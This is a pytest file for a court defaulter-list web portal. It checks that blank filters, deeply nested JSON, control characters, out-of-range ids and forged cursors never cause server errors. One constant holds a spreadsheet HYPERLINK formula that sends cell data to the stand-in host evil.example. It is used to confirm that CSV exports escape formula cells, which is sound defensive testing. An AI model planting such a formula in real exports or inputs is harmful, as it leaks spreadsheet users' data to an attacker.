"""Hostile input from anyone: blank filters, deep or broken JSON, formula cells in exports — never a 500."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from urllib.parse import unquote

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

from portal.extensions import db
from portal.models import Account, Role
from portal.presentation.exports import spreadsheet_safe
from publicity.core.models import Court, ThrottleEvent
from publicity.lists import defaulters
from publicity.lists.models import ListingGround
from publicity.record.models import PartyKind
from tests.factories import NOW, login, make_lookup_case

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def entry(app: Flask, court: Court, name: str, id_number: str) -> None:
    with app.app_context():
        defaulters.list_defaulter(
            db.session,
            court=db.session.get(Court, court.id),
            key=app.config["SECRET_KEY"].encode(),
            actor="t",
            now=NOW,
            data=defaulters.EntryData(
                kind=PartyKind.PERSON,
                name=name,
                id_number=id_number,
                case_number="（2026）鲁1427执301号",
                basis_number="（2025）鲁1427民初1号",
                basis_issuer="夏津县人民法院",
                obligation="给付款项",
                circumstance="拒不履行",
                ground=ListingGround.ABLE_BUT_REFUSES,
                filed_on=date(2026, 1, 5),
                unperformed_fen=123_456,
            ),
        )
        db.session.commit()


@pytest.mark.parametrize(
    "url",
    [
        "/lists/defaulters?q=zs&ground=%20",
        "/lists/defaulters?q=zs&court=%20",
        "/lists/defaulters?q=zs&status=%20",
        "/lists/defaulters?q=zs&ground=%E3%80%80",  # a full-width space
        "/search?q=zs&ground=%20",
        "/search?q=zs&list=%20&court=%09",
        "/lists/restrictions?court=%20",
        "/api/v1/defaulters?court=%20",
        "/api/v1/defaulters?q=zs&ground=%20&status=%20",
    ],
)
def test_a_blank_optional_filter_is_no_filter(client: FlaskClient, court: Court, app: Flask, url: str) -> None:
    entry(app, court, "张三", "371427198203151232")
    response = client.get(url)
    assert response.status_code == 200, url
    # The same answer as without the blank parameters at all.
    path, _, query = url.partition("?")
    kept = "&".join(p for p in query.split("&") if unquote(p.partition("=")[2]).strip())
    unfiltered = client.get(f"{path}?{kept}")
    assert unfiltered.status_code == 200
    if path.startswith("/api/"):
        assert response.json == unfiltered.json
    else:  # the page's main part is the same (the blank choice shows as chosen, "all", which it is)

        def main(page: str) -> str:
            return page[page.index("<main") : page.index("</main>")].replace(
                '<option selected value="">', '<option value="">'
            )

        assert main(response.get_data(as_text=True)) == main(unfiltered.get_data(as_text=True))
    if "q=zs" in query:  # and it finds what the query asks for
        found = (
            [i["name"] for i in response.json["items"]] if path.startswith("/api/") else response.get_data(as_text=True)
        )
        assert "张三" in found


def test_an_unknown_filter_value_is_a_form_error(client: FlaskClient, court: Court) -> None:
    response = client.get("/lists/defaulters?q=zs&ground=nonsense")
    assert response.status_code == 422


@pytest.mark.parametrize("query", ["stage=%20", "judge=%20", "stage=%20&judge=%20&q=%20"])
def test_blank_staff_case_filters_list_every_case(app: Flask, accounts_by_role: dict[Role, int], query: str) -> None:
    client = app.test_client()
    assert login(client, "clerk").status_code == 303
    assert client.get(f"/staff/cases/?{query}").status_code == 200


def test_a_deeply_nested_body_is_refused_with_400(client: FlaskClient, app: Flask) -> None:
    depth = 100_000
    response = client.post("/api/v1/cases/lookup", data="[" * depth + "]" * depth, content_type="application/json")
    assert response.status_code == 400 and response.json["error"]["reason"] == "bad_json"
    nested = {"case_number": "（2026）鲁1427执5号", "query_code": "AAAAAAAAAA", "x": [[[[[[[[[["deep"]]]]]]]]]]}
    assert client.post("/api/v1/cases/lookup", json=nested).status_code == 400


def test_a_lone_surrogate_is_refused_with_400_and_counts_nothing(client: FlaskClient, app: Flask, court: Court) -> None:
    filed = make_lookup_case(app, court)
    body = '{"case_number": "' + str(filed["number"]) + '", "query_code": "\\ud800AAAAAA"}'
    response = client.post("/api/v1/cases/lookup", data=body, content_type="application/json")
    assert response.status_code == 400 and response.json["error"]["reason"] == "bad_json"
    assert "Unicode" in response.json["error"]["message"] or "Unicode" in json.dumps(response.json)
    with app.app_context():
        # Not a wrong code: nothing counts towards the case's lock.
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ThrottleEvent)) == 0


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_text(start: str) -> None:
    assert spreadsheet_safe(f"{start}SUM(A1)") == f"'{start}SUM(A1)"


def test_plain_cells_are_untouched() -> None:
    assert [spreadsheet_safe(v) for v in ("张三", "（2026）鲁1427执1号", "", 12345, -3, None)] == [
        "张三",
        "（2026）鲁1427执1号",
        "",
        12345,
        -3,
        None,
    ]


def test_a_formula_name_opens_as_text_in_the_public_csv(client: FlaskClient, app: Flask, court: Court) -> None:
    entry(app, court, FORMULA_NAME, "371427198203151232")
    body = client.get("/lists/defaulters.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]
    assert "'" + FORMULA_NAME in cells
    assert FORMULA_NAME not in cells


# (A NUL byte never reaches a form: the request is refused with 400 first.)
@pytest.mark.parametrize("typed", ["张\x07三", "张三\x1b[31m", "\x85张三", "张\x7f三"])
def test_control_characters_are_refused_in_forms(app: Flask, accounts_by_role: dict[Role, int], typed: str) -> None:
    client = app.test_client()
    assert login(client, "admin").status_code == 303
    response = client.post(
        "/admin/accounts/new",
        data={
            "username": "zhangsan",
            "display_name": typed,
            "role": "judge",
            "court": "鲁1427",
            "phone": "13912340009",
            "password": "initial-password-1",
        },
    )
    assert response.status_code == 422
    assert "控制字符" in response.get_data(as_text=True)
    with app.app_context():
        assert (
            db.session.scalar(sa.select(sa.func.count()).select_from(Account).where(Account.username == "zhangsan"))
            == 0
        )


def test_tabs_and_line_breaks_are_text(app: Flask, accounts_by_role: dict[Role, int]) -> None:
    client = app.test_client()
    assert login(client, "admin").status_code == 303
    response = client.post(
        "/admin/accounts/new",
        data={
            "username": "zhangsan",
            "display_name": "张三",
            "role": "judge",
            "court": "鲁1427",
            "team": "执行\t一组",
            "phone": "13912340009",
            "password": "initial-password-1",
        },
    )
    assert response.status_code == 303


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("/lists/defaulters/3000000000", 404),  # past the INTEGER ids: not found, not "integer out of range"
        ("/lists/defaulters?q=zs&cursor=3000000000", 200),
        ("/lists/defaulters/9223372036854775807", 404),
    ],
)
def test_an_id_past_every_record_is_not_found(client: FlaskClient, url: str, status: int) -> None:
    assert client.get(url).status_code == status


def _cursor(key: object, row_id: int) -> str:
    import base64

    return base64.urlsafe_b64encode(json.dumps([key, row_id]).encode()).decode().rstrip("=")


@pytest.mark.parametrize("row_id", [2**31, 2**40, 2**62])
def test_a_forged_cursor_past_the_id_range_starts_over(client: FlaskClient, court: Court, row_id: int) -> None:
    """A visitor sends the cursor: an id past INTEGER is "from the start", not an out-of-range 500."""
    for url in (
        "/lists/defaulters?q=张&cursor=",
        "/api/v1/defaulters?q=张&cursor=",
        "/lists/restrictions?q=张&cursor=",
    ):
        assert client.get(url + _cursor("张", row_id)).status_code == 200, url


def test_featuring_an_id_past_the_range_is_not_found(app: Flask, accounts_by_role: dict[Role, int]) -> None:
    """Found by the form fuzzer: ``/staff/exposure/new?entry=2147483648`` was a 500 on PostgreSQL."""
    client = app.test_client()
    login(client, "judge")
    for query in ("entry=2147483648", "order=2147483648", "entry=9223372036854775807"):
        assert client.get(f"/staff/exposure/new?{query}").status_code == 404, query
        assert client.post(f"/staff/exposure/new?{query}", data={}).status_code == 404, query


def test_a_name_with_control_characters_leaves_the_atom_feed_well_formed(
    client: FlaskClient, app: Flask, court: Court
) -> None:
    """A name stored before forms and imports refused control characters (or by a hand edit) reaches the feed."""
    import xml.etree.ElementTree as ET

    entry(app, court, "张\x0b三\x1f", "371427198203151232")
    feed = client.get("/lists/defaulters.atom")
    assert feed.status_code == 200 and feed.mimetype == "application/atom+xml"
    root = ET.fromstring(feed.data)  # noqa: S314 - the portal's own feed; ill-formed XML raises here
    titles = [t.text or "" for t in root.iter("{http://www.w3.org/2005/Atom}title")]
    assert any(title.startswith("张三") for title in titles)
